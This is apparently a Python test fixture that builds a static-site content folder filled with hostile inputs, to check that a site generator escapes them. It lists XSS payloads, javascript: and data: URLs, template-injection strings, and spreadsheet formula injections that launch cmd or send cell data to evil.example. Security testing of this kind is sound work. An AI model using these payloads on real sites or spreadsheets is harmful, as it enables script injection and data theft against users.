"""A little site whose every word is written by somebody who means harm."""

import json
from pathlib import Path

# What is tried as a name, a summary, a label, a note: each breaks out of another place of a page.
TEXTS = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'\" onmouseover=\"alert(1)\" x='",
    "\"\u0301 onfocus=alert(1) autofocus tabindex=1 x=\"\u0301",
    ">\u0301<svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title></textarea></style><svg onload=alert(1)>",
    "--><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><!--",
    "a\u2028alert(1)\u2029b",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &quot;",
    "{{ 7 * 7 }} {% if x %} {# y #} ${alert(1)}",
    "</style><style>*{display:none}</style><base href=//evil.example>",
    "]]><![CDATA[<?php x ?>",
    "`\\\"><object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a><form action=//evil.example><input name=x autofocus onfocus=alert(1)>",
    "<template><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "=HYPERLINK(\"https://evil.example/?\"&A1; \"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3;=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
]

# What is tried as an address in Markdown; none of these may become a link.
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\\\\\evil.example",
    "/\\\\evil.example",
    "/&#9;/evil.example",
    "https:evil.example",
    "view-source:https://evil.example",
    "feed:javascript:alert(1)",
]


# What pages may be made of.
ELEMENTS = set(
    "template html head meta title link script body a header div nav ul li button span ol main h1 h2 h3 h4 h5 h6 p footer "
    "section aside table caption thead tbody tfoot tr th td svg title desc path rect dl dt dd details summary strong em "
    "code pre blockquote img sup hr br del input form kbd label small article data figure figcaption b i circle fieldset legend select option".split()
)


def quoted(text: str) -> str:
    """A text as YAML reads it: in double quotes, with the escapes of JSON."""
    return json.dumps(text)


def name(number: int) -> str:
    return f"{TEXTS[number % len(TEXTS)]} {number}"


def write_hostile_site(folder: Path) -> None:
    """Writes the content of a site with an item, a criterion, a use case, a source and a page for each of the texts."""
    count = len(TEXTS)
    files = {
        "site.yml": f"title: {quoted(name(1))}\ntagline: {quoted(name(0))}\nlanguage: en\n"
        f"items: {{ folder: things, one: {quoted(name(2))}, many: {quoted(name(3))} }}\n"
        "navigation: [things, matrices, use-cases, criteria, contested, pages]\n",
        "index.md": f"---\nname: Home\nsummary: {quoted(name(4))}\n---\n\n{prose(4)}",
        "matrices/all.md": f"---\nname: {quoted(name(5))}\nsummary: {quoted(name(6))}\n---\n\n{prose(5)}",
    }
    for number in range(count):
        files[f"things/t{number}.md"] = item(number)
        files[f"criteria/c{number}.md"] = criterion(number)
        files[f"use-cases/u{number}.md"] = (
            f"---\nname: {quoted(name(number))}\nsummary: {quoted(name(number + 1))}\nneeds: [c{number}]\n---\n\n"
        ) + prose(number)
        files[f"sources/s{number}.md"] = (
            f"---\nname: {quoted(name(number))}\nshort: {quoted(name(number + 1))}\n"
            f"summary: {quoted(name(number + 2))}\n"
            f"publisher: {quoted(name(number + 3))}\nurl: 'https://evil.example/\"><script>alert({number})</script>'\n"
            f"ranking: {{ by: {quoted(name(number + 4))}, order: [t{number}] }}\n---\n\n"
        ) + prose(number)
        files[f"pages/p{number}.md"] = (
            f"---\nname: {quoted(name(number))}\nsummary: {quoted(name(number + 1))}\n"
            f"extra: {{ {quoted(name(number))}: {quoted(name(number))} }}\n---\n\n"
        ) + prose(number)
    for path, text in files.items():
        (folder / "Content" / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / "Content" / path).write_text(text, encoding="utf-8", newline="")


def criterion(number: int) -> str:
    kind = [
        "type: text",
        f"type: choice\nindex: true\nvalues:\n"
        f"  a: {{ label: {quoted(name(number))}, description: {quoted(name(number + 1))} }}\n"
        f"  b: {quoted(name(number + 2))}",
        f"type: number\nunit: {quoted(name(number))}",
    ][number % 3]
    return (
        f"---\nname: {quoted(name(number))}\nsummary: {quoted(name(number + 1))}\ngroup: {quoted(name(number + 2))}\n"
        f"{kind}\n---\n\n{prose(number)}"
    )


def item(number: int) -> str:
    other = (number + 1) % len(TEXTS)
    label = TEXTS[number].replace("\\", "").replace("*", "").replace("`", "")
    values = [quoted(name(number)), "a", "7"]
    facts = "".join(
        f"  c{c}: {{ value: {values[c % 3]}, note: {quoted(name(number + c))}, sources: [s{c}] }}\n"
        for c in range(0, len(TEXTS) - 1)
    )
    last = len(TEXTS) - 1
    return (
        f"---\nname: {quoted(name(number))}\nsummary: {quoted(name(number + 1))}\n"
        f"website: 'https://evil.example/?\"><script>alert(1)</script>&x=\u0301'\n"
        f"links: {{ {quoted(name(number + 2))}: 'https://evil.example/''onclick=alert(1)' }}\n"
        f"aliases: [{quoted('alias ' + name(number))}]\nupdated: 2024-01-{number + 1:02}\n"
        f"related: [{{ item: t{other}, as: {quoted(name(number + 4))}, sources: [s{number}] }}]\n"
        f"facts:\n{facts}"
        f"  c{last}: [{{ value: {['one', 'a', '1'][last % 3]}, sources: [s0] }}, "
        f"{{ value: {['two', 'b', '2'][last % 3]}, sources: [s1] }}]\n"
        f"---\n\n{prose(number)}\n\n"
        f"## Strengths\n\n- **{label}**: {TEXTS[number]} [^a]\n\n  > **Editor's note**: {TEXTS[number]}\n\n"
        f"- **{label}**\n\n"
        f"## Weaknesses\n\n- **{label}**: {TEXTS[number]} [^a]\n\n"
        f"## Used by\n\n- **{label}** [^a]\n\n"
        f"[^a]: [{TEXTS[number]}](../sources/s{number}.md)\n"
    )


def prose(number: int) -> str:
    """Markdown with a text and every address in each place that can hold one."""
    text = TEXTS[number]
    links = "\n".join(
        f"- [x]({address}) ![y]({address}) <{address}> [z][r{index}]\n\n[r{index}]: {address}"
        for index, address in enumerate(ADDRESSES)
    )
    cell = text.replace("|", "\\|")
    title = text.replace('"', '\\"')
    return (
        f"{text}\n\n# {text}\n\n### {text}\n\n{links}\n\n"
        f"[a](https://evil.example/ \"{title}\") <https://evil.example/?{quoted(text)[1:9]}>\n\n"
        f"![{text}](missing-scheme:x '{text.replace(chr(39), '')}')\n\n"
        f"| {cell} | b |\n|---|---|\n| {cell} | {cell} |\n\n"
        f"```js\"onclick=alert(1)\n{text}\n```\n\n~~~{text}\n{text}\n~~~\n\n`{text.replace('`', '')}`\n\n"
        f"> {text}\n\n- [ ] {text}\n\n<div onclick=alert(1)>\n{text}\n</div>\n\n"
        f"https://evil.example/<script> www.evil.example/\"onclick=alert(1) evil@example.org\n\n"
        f"A note.[^n{number}]\n\n[^n{number}]: {text} [x](javascript:alert(1))\n"
    )
